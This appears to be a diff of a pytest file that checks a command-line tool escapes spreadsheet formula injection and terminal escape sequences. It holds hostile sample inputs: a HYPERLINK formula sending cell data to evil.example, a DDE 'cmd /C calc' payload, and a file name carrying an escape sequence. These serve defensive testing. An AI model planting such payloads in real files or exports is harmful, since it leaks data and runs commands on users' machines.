@@ -5,8 +5,11 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
 import pytest
+
+DATA = Path(__file__).parents[1] / "data"
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 LABELS = {"a": FORMULA, "b": "+cmd|' /C calc'!A0", "c": "-2+3", "d": "@SUM(A1:A9)"}
@@ -92,3 +95,12 @@ def test_escapes_in_error_messages_are_shown_not_obeyed(cli, tmp_path):
     shown = cli("show", "\x1b[2Jnobody\u202e")
     assert shown.exit_code == 1
     assert "\x1b" not in shown.stderr and "\u202e" not in shown.stderr
+
+
+def test_a_file_name_with_escapes_in_an_input_folder_is_shown_not_obeyed(cli, tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "x\x1b]0;owned\x07.yaml").write_text((DATA / "thorough.yaml").read_text())
+    result = cli("validate", folder)
+    assert result.exit_code == 0, result.stderr
+    assert "\x1b" not in result.stdout and "x\\x1b]0;owned\\x07.yaml: valid" in result.stdout
